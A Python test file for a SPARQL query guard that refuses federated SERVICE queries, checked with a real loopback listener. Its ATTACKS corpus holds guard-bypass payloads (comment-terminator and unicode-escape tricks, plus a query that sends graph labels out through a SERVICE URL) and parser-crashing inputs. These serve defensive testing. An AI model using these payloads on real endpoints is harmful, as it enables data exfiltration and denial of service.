"""The guard, attacked: every way found to slip a SERVICE past a parser, through every local path
(CLI text, .rq file, Python API), with a real listener on loopback that must see nothing.

The HTTP paths (GET, POST form, POST sparql-query, HEAD) are attacked in test_serve.py with the
same corpus.
"""

from __future__ import annotations

import socket
import threading

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from hcc_kg.answer.guard import MAX_QUERY, QueryTooLarge, RefusedQuery, check_query, readings
from hcc_kg.cli import main

REFUSED = "SERVICE (federated query) is refused"

#: {url} is the listener. Each was found, or is a variant of one found, by attacking a guard that
#: parsed with rdflib while Oxigraph executed (issue 11: B1, B2, B3 and the exfiltration).
ATTACKS = {
    "plain": "SELECT * WHERE { SERVICE <{url}> { ?s ?p ?o } }",
    "mixed-case-prefixed": "PREFIX e: <{url}>\n# c\nSELECT * WHERE { ?a ?b ?c . sErViCe SILENT e:x { ?s ?p ?o } }",
    "nested": "SELECT * WHERE { { SELECT ?s WHERE { OPTIONAL { SERVICE <{url}> { ?s ?p ?o } } } } }",
    "in-exists": "ASK { FILTER EXISTS { SERVICE <{url}> { ?s ?p ?o } } }",
    "b1-cr-ends-comment": "SELECT * WHERE { #x\rSERVICE SILENT <{url}> { ?s ?p ?o } \n}",
    "b1-crlf": "SELECT * WHERE { #x\r\nSERVICE SILENT <{url}> { ?s ?p ?o } }",
    "b1-form-feed": "SELECT * WHERE { #x\fSERVICE SILENT <{url}> { ?s ?p ?o } \n}",
    "b1-line-separator": "SELECT * WHERE { #x\u2028SERVICE SILENT <{url}> { ?s ?p ?o } \n}",
    "b2-u0022": 'SELECT ?y WHERE { BIND("\\u0022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-u0027": "SELECT ?y WHERE { BIND('\\u0027 AS ?x) } #' AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }",
    "b2-triple-quoted": 'SELECT ?y WHERE { BIND("""\\u0022\\u0022\\u0022 AS ?x) } #""" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-ask": 'ASK { BIND("\\u0022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-construct": 'CONSTRUCT { ?s ?p ?o } WHERE { BIND("\\u0022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b2-eight-digits": 'SELECT ?y WHERE { BIND("\\u00000022 AS ?x) } #" AS ?y) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "b3-row-cap": 'SELECT ?z WHERE { ?s ?p ?o BIND("\\u0022 AS ?z) } LIMIT 5 #" AS ?z) SERVICE SILENT <{url}> { ?s ?p ?o } }',
    "escaped-keyword-4": "SELECT * WHERE { \\u0053ERVICE SILENT <{url}> { ?s ?p ?o } }",
    "escaped-keyword-8": "SELECT * WHERE { \\U00000053ervice SILENT <{url}> { ?s ?p ?o } }",
    "escaped-keyword-u8": "SELECT * WHERE { \\u00000073ERVICE SILENT <{url}> { ?s ?p ?o } }",
    "escaped-twice": "SELECT * WHERE { \\u005Cu0053ERVICE SILENT <{url}> { ?s ?p ?o } }",
    "exfiltration": (
        'PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#>\nSELECT ?y WHERE { BIND("\\u0022 AS ?x) } #" AS ?y)\n'
        ' ?e rdfs:label ?l BIND(IRI(CONCAT("{url}exfil?label=", ENCODE_FOR_URI(?l))) AS ?u)'
        " SERVICE SILENT ?u { ?s ?p ?o } }"),
}


@pytest.fixture()
def listener():
    """A real TCP listener on loopback standing in for another machine; records every connection."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.1)
    hits: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                hits.append(conn.recv(4096))
            except OSError:
                hits.append(b"")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.getsockname()[1]}/", hits
    stop.set()
    thread.join(timeout=2)
    server.close()


def attack(name: str, url: str) -> str:
    return ATTACKS[name].replace("{url}", url)


@pytest.fixture()
def on_release(built, monkeypatch):
    from hcc_kg.answer import store

    monkeypatch.setattr(store, "RELEASE", built[0])


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_through_cli_text_never_reaches_the_listener(name, listener, on_release):
    url, hits = listener
    result = CliRunner().invoke(main, ["query", attack(name, url)])
    assert result.exit_code == 1 and REFUSED in result.output
    assert "Traceback" not in result.output
    assert hits == []


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_through_rq_file_never_reaches_the_listener(name, listener, on_release, tmp_path):
    url, hits = listener
    path = tmp_path / "attack.rq"
    path.write_bytes(attack(name, url).encode())  # bytes as written: the CR stays a CR
    result = CliRunner().invoke(main, ["query", str(path)])
    assert result.exit_code == 1 and REFUSED in result.output
    assert hits == []


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_through_python_api_never_reaches_the_listener(name, listener, store):
    from hcc_kg.answer.store import run

    url, hits = listener
    with pytest.raises(RefusedQuery, match=r"SERVICE \(federated query\) is refused"):
        run(attack(name, url), store)
    assert hits == []


def test_the_listener_is_real(listener, store):
    """The control: the same SERVICE with the guard switched off does reach the listener, so a
    test above that sees no hit means the guard stopped it."""
    from hcc_kg.answer.store import run

    url, hits = listener
    run(attack("plain", url).replace("SERVICE <", "SERVICE SILENT <"), store, allow_service=True)
    assert hits and hits[0].startswith(b"POST ")


#: what an engine might take as the end of a comment, a string delimiter, or a letter of the keyword
TERMINATORS = ["\n", "\r", "\r\n", "\f", "\v", "\x85", "\u2028", "\u2029"]
QUOTES = ['"', "'", '"""', "'''"]


def _letter(draw, ch: str) -> str:
    form = draw(st.sampled_from(["lower", "upper", "u4", "U8", "u8"]))
    code = ord(draw(st.sampled_from([ch.lower(), ch.upper()])))
    return {"lower": ch.lower(), "upper": ch.upper(), "u4": f"\\u{code:04X}", "U8": f"\\U{code:08X}",
            "u8": f"\\u{code:08x}"}[form]


@st.composite
def service_queries(draw) -> str:
    keyword = "".join(_letter(draw, ch) for ch in "service")
    quote = draw(st.sampled_from(QUOTES))
    escaped_quote = draw(st.sampled_from(["\\u0022", "\\u0027", "\\u00000022", "\\U00000027", '\\"']))
    prefix = draw(st.sampled_from([
        "", f"# c{draw(st.sampled_from(TERMINATORS))}",
        f"BIND({quote}{escaped_quote} AS ?x) }} #{quote} AS ?y) ",
        f"BIND({quote}x{quote} AS ?x) #{draw(st.sampled_from(TERMINATORS))}",
    ]))
    form = draw(st.sampled_from(["SELECT * WHERE {", "ASK {", "CONSTRUCT { ?s ?p ?o } WHERE {", "select ?y {"]))
    return f"{form} {prefix}{keyword} SILENT <{{url}}> {{ ?s ?p ?o }} }}"


@settings(max_examples=300, deadline=None)
@given(service_queries())
def test_generated_service_queries_are_refused_and_reach_nothing(template):
    """Comment terminators, escapes, quotes and case mixed into SERVICE queries: each is refused
    by the guard; a listener that would receive any federated call stays silent."""
    with pytest.raises(RefusedQuery, match=r"SERVICE \(federated query\) is refused"):
        check_query(template.replace("{url}", "http://127.0.0.1:9/"))


def test_the_word_anywhere_is_refused_with_the_reason():
    for text in ['SELECT * { ?s ?p "customer service" }', "SELECT * { <urn:service> ?p ?o }",
                 "ASK {} # no service here"]:
        with pytest.raises(RefusedQuery, match="in any case, anywhere"):
            check_query(text)


def test_plain_queries_pass():
    check_query("PREFIX s: <http://example.org/serv#>\nSELECT ?x WHERE { ?x a s:Drug }")
    check_query('SELECT * WHERE { ?s ?p "\\u00e9" }')


def test_readings_expand_every_escape_form():
    found = readings("\\u0041\\U00000042\\u00000043")
    assert "ABC" in found  # \u read with 8 digits, as rdflib does
    assert "A\\U00000042\x000043" in found  # \u read with 4 digits only, as the grammar says


def test_too_many_readings_are_refused_not_checked_in_part(monkeypatch):
    from hcc_kg.answer import guard

    monkeypatch.setattr(guard, "MAX_READINGS", 2)
    with pytest.raises(RefusedQuery, match="too many layers"):
        check_query("ASK { FILTER(\"\\u0041\\U00000042\\u00000043\") }")


def test_size_cap_on_every_path():
    with pytest.raises(QueryTooLarge, match=f"at most {MAX_QUERY} are accepted"):
        check_query("ASK {}" + " " * MAX_QUERY)


@pytest.mark.parametrize("text", [
    "INSERT DATA { <urn:a> <urn:b> <urn:c> }",
    "DELETE WHERE { ?s ?p ?o }",
    "LOAD <http://127.0.0.1:9/x>",
    "CLEAR ALL",
    "PREFIX x: <urn:x>\nDROP GRAPH <urn:g>",
])
def test_updates_are_refused(text, store):
    from hcc_kg.answer.store import run

    with pytest.raises(RefusedQuery, match="updates .* are refused"):
        run(text, store)


def test_syntax_error_names_line_and_column(store):
    from hcc_kg.answer.store import run

    with pytest.raises(RefusedQuery, match=r"SPARQL syntax error at line 2, column \d+"):
        run("SELECT ?x\nWHERE { ?x ?y }", store)


#: texts that once gave a traceback (rdflib) or would kill the process (Oxigraph's recursion)
HOSTILE_TEXTS = {
    "bad-codepoint": 'ASK { FILTER("\\UFFFFFFFF") }',
    "surrogate": 'ASK { FILTER("\\uD800") }',
    "parens-20000": "ASK { FILTER(" + "(" * 20000 + "1" + ")" * 20000 + ") }",
    "braces-30000": "ASK " + "{" * 30000 + "}" * 30000,
    "not-60000": "ASK { FILTER(" + "!" * 60000 + "true) }",
    "100-patterns": "ASK { " + " ".join(f"?s <urn:p{i}> ?o{i} ." for i in range(100)) + " }",
    "nul": "ASK {\x00}",
    "lone-surrogate-text": "ASK { FILTER(\"\ud800\") }",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_TEXTS))
def test_no_query_text_gives_a_traceback_or_kills_the_process(name, on_release):
    result = CliRunner().invoke(main, ["query", HOSTILE_TEXTS[name]])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert result.exit_code in (0, 1)
    if result.exit_code == 1:
        assert result.output.startswith("error: ") and result.output.count("\n") == 1
